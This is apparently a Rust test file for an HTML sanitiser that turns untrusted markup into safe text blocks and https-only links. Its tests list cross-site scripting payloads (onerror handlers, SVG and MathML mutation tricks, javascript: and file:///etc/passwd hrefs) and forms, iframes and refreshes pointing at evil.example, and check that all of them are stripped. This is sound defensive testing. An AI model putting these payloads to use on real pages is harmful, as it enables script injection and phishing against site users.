use super::*;
use crate::domain::text::TERMS_MAX;
use crate::prose::BLOCKS_MAX;

fn heading(text: &str) -> Block {
    Block::Heading { text: text.into() }
}

fn paragraph(text: &str) -> Block {
    Block::Paragraph { text: text.into() }
}

fn item(text: &str, number: Option<u32>) -> Block {
    Block::Item { text: text.into(), number }
}

fn link(text: &str, host: &str, url: &str) -> Block {
    Block::Link { text: text.into(), host: host.into(), url: url.into() }
}

/// All that could be shown, as one text.
fn shown(html: &str) -> String {
    safe_blocks(html)
        .into_iter()
        .map(|block| match block {
            Block::Heading { text } | Block::Paragraph { text } | Block::Item { text, .. } => text,
            Block::Link { text, host, url } => format!("{text} {host} {url}"),
        })
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn headings_paragraphs_and_lists_become_blocks() {
    let html = "<h2>How to redeem</h2><p>Go to the <b>shop</b>.<br>Sign&nbsp;in.</p><ol start=3><li><p>Open</p><p>it</p></li><li>Type &amp; send</ol>
        <ul><li>One</li></ul> Done &#x1F389;";
    assert_eq!(
        safe_blocks(html),
        [
            heading("How to redeem"),
            paragraph("Go to the shop."),
            paragraph("Sign in."),
            item("Open it", Some(3)),
            item("Type & send", Some(4)),
            item("One", None),
            paragraph("Done 🎉"),
        ]
    );
}

#[test]
fn plain_text_keeps_its_lines() {
    assert_eq!(
        safe_blocks("1. Open the app\r\n2. Type 5 < 6 &amp; go\n\n\nDone"),
        [paragraph("1. Open the app"), paragraph("2. Type 5 < 6 & go"), paragraph("Done")]
    );
    assert_eq!(safe_blocks(""), []);
    assert_eq!(safe_blocks(" \n "), []);
}

#[test]
fn a_link_follows_its_sentence_and_names_its_host() {
    assert_eq!(
        safe_blocks("<p>See <a href='https://example.com/a?b=1'>the terms</a> first.</p>"),
        [paragraph("See the terms first."), link("the terms", "example.com", "https://example.com/a?b=1")]
    );
    assert_eq!(
        safe_blocks("<a href=https://bücher.example:8443/><img src=x></a>"),
        [link("xn--bcher-kva.example:8443", "xn--bcher-kva.example:8443", "https://xn--bcher-kva.example:8443/")]
    );
}

#[test]
fn only_https_without_a_disguise_is_a_link() {
    for href in [
        "javascript:alert(1)",
        " java\nscript:alert(1)",
        "data:text/html,<script>1</script>",
        "http://example.com",
        "//example.com",
        "/a",
        "vbscript:x",
        "file:///etc/passwd",
        "https://",
        "https://good.example@evil.example/",
        "bitcoin:1A1zP1",
        "&#106;avascript:alert(1)",
        "https:javascript",
    ] {
        let blocks = safe_blocks(&format!("<p><a href=\"{href}\">press</a></p>"));
        if href == "https:javascript" {
            assert_eq!(blocks, [link("press", "javascript", "https://javascript/")]);
        } else {
            assert_eq!(blocks, [paragraph("press")], "{href}");
        }
    }
}

// faults.md rows 82 and 83.
#[test]
fn hostile_markup_leaves_nothing_but_its_words() {
    for (html, words) in [
        ("<img src=x onerror=alert(1)>Brand", "Brand"),
        ("</script>Brand<script>alert(1)</script>", "Brand"),
        ("{{7*7}} Brand", "{{7*7}} Brand"),
        ("<svg><set attributeName=href to=javascript:alert(1)><animate/>x</svg>Brand", "Brand"),
        ("<svg/>Brand", "Brand"),
        ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></math>Brand", "Brand"),
        ("<form action=https://evil.example><input name=code>Type your code<button>Send</button></form>Brand", "Brand"),
        ("<form><form>a</form>b</form>Brand", "Brand"),
        ("<form><svg></form>Brand", "Brand"),
        ("<iframe src=https://evil.example><b>x</b></iframe>Brand", "Brand"),
        ("<meta http-equiv=refresh content='0;url=https://evil.example'>Brand", "Brand"),
        ("<style>p{background:url(https://evil.example/)}</style><p style='background:url(x)'>Brand", "Brand"),
        ("<img src='data:image/svg+xml;base64,AAAA'>Brand", "Brand"),
        ("<template><p>x</p></template>Brand", "Brand"),
        ("<script>\"</p>\"<p>x", ""),
        ("<!-- <p>x</p> -->Brand<![CDATA[x]]><?php x ?>", "Brand"),
        ("<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>Brand", "Brand"),
        ("<title>x</title><textarea><p>x</textarea>Brand", "Brand"),
        ("&lt;img src=x onerror=alert(1)&gt;", "<img src=x onerror=alert(1)>"),
        ("Br\u{202e}an\u{200b}d\u{0}", "Brand"),
    ] {
        assert_eq!(shown(html), words, "{html}");
    }
}

#[test]
fn five_megabytes_are_cut_and_come_to_an_end() {
    let attributes: String = (0..400_000).fold("<a ".to_owned(), |mut out, n| {
        out.push_str(&format!("a{n}=\">\" "));
        out
    });
    for html in [
        "<p>word </p>".repeat(450_000),
        "word ".repeat(1_000_000),
        "<div>".repeat(1_000_000),
        "<ol><li>".repeat(700_000),
        "<form><svg></form>".repeat(300_000),
        "<a href=https://example.com>".repeat(200_000),
        "&amp".repeat(1_200_000),
        "<".repeat(5_000_000),
        "<!--".repeat(1_200_000),
        "\u{200b}".repeat(1_700_000),
        attributes,
    ] {
        let blocks = safe_blocks(&html);
        let start: String = html.chars().take(20).collect();
        assert!(blocks.len() <= BLOCKS_MAX, "{start}");
        assert!(shown(&html).chars().count() < TERMS_MAX + BLOCKS_MAX * 80, "{start}");
    }
}

#[test]
fn terms_end_at_their_cap_with_an_ellipsis() {
    let text = shown(&"wörd ".repeat(10_000));
    assert_eq!(text.chars().count(), TERMS_MAX);
    assert!(text.ends_with('…'));
}
